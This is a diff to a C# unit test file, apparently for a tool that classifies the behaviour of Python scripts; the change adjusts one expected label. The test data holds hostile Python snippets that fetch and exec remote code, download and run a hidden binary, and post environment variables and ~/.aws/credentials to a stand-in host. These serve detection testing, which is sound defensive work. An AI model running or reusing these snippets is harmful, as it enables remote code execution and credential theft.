@@ -40,7 +40,7 @@ public sealed class PythonScriptTests
     [InlineData("import requests\nr = requests.get('http://192.0.2.1/a')\nexec(r.text)", "Download http://192.0.2.1/a", "Interpret python from http://192.0.2.1/a")]
     [InlineData("import urllib2\nexec urllib2.urlopen('http://192.0.2.1/a').read()", "Download http://192.0.2.1/a", "Interpret python from http://192.0.2.1/a")]
     [InlineData("import urllib.request, os, subprocess\nurllib.request.urlretrieve('http://192.0.2.1/m', '/tmp/.m')\nos.chmod('/tmp/.m', 0o755)\nsubprocess.Popen(['/tmp/.m', '-o', 'x'])",
-        "Download http://192.0.2.1/m > /tmp/.m", "MakeExecutable /tmp/.m", "Execute /tmp/.m from http://192.0.2.1/m")]
+        "Download http://192.0.2.1/m > /tmp/.m", "MakeExecutable /tmp/.m from http://192.0.2.1/m", "Execute /tmp/.m from http://192.0.2.1/m")]
     [InlineData("import requests\nwith open('/tmp/a', 'wb') as f:\n    f.write(requests.get('http://192.0.2.1/a').content)", "Write /tmp/a from http://192.0.2.1/a", "Download http://192.0.2.1/a")]
     [InlineData("import requests, os, json\nrequests.post('http://192.0.2.1/c', data=json.dumps(dict(os.environ)))", "Read environment", "Send http://192.0.2.1/c from environment")]
     [InlineData("import requests, os\np = os.path.join(os.path.expanduser('~'), '.aws', 'credentials')\nrequests.post('http://192.0.2.1', files={'f': open(p, 'rb')})", "Read ~/.aws/credentials", "Send http://192.0.2.1 from ~/.aws/credentials")]
